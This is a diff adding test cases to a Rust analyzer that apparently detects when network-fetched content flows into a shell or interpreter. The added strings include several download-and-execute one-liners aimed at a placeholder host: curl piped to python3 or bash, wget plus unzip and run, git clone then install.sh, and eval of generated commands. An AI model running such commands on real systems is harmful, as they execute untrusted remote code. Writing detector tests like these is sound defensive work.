@@ -116,6 +116,10 @@ fn fetched_content_reaches_an_interpreter_in_shell() {
         "if true; then u=https://x.test/a; else u=https://x.test/b; fi; curl $u | sh",
         "python3 -c \"$(curl https://x.test/a)\"",
         "curl https://x.test/a | python3 -",
+        "curl https://x.test/a | python3 -c 'import sys; exec(sys.stdin.read())'",
+        "curl https://x.test/a | bash -c 'cat | sh'",
+        "wget https://x.test/t.zip; unzip -P x t.zip; chmod +x ./t; ./t",
+        "git clone https://x.test/r && bash r/install.sh",
         "curl https://x.test/a | base64 -d | sh",
         "curl https://x.test/a > >(sh)",
         "nohup timeout 5 curl https://x.test/a | busybox sh",
@@ -133,6 +137,7 @@ fn harmless_lines_have_no_such_flow() {
         "curl -o a.tgz https://x.test/a; sh b.sh",
         "x=$(curl https://x.test/a); x=ls; eval \"$x\"",
         "echo \"curl https://x.test/a | sh\"",
+        "curl https://x.test/a -o <FILE> && sh x.sh",
     ] {
         let (_, graph) = bundle(&[("a.sh", text)]);
         assert!(!flows(&graph, EffectKind::Fetch, EffectKind::Eval), "{text}\n{}", describe(&graph));
@@ -164,6 +169,8 @@ fn code_that_is_packed_is_unpacked_and_interpreted() {
         "sh <<EOF\ncurl https://x.test/a | sh\nEOF\n",
         "echo 'curl https://x.test/a | sh' > r.sh; chmod +x r.sh; ./r.sh",
         "trap 'curl https://x.test/a | sh' EXIT",
+        "eval $(python3 -c \"print('curl https://x.test/a | sh')\")",
+        "x=$(python3 -c \"print(bytes(((102 * (y - 11)) % 256) for y in [1]).decode())\"); curl https://x.test/a | sh",
         "python3 - <<'EOF'\nimport os\nos.system('curl https://x.test/a | sh')\nEOF\n",
     ] {
         assert_flows(&[("a.sh", text)], EffectKind::Fetch, EffectKind::Eval);
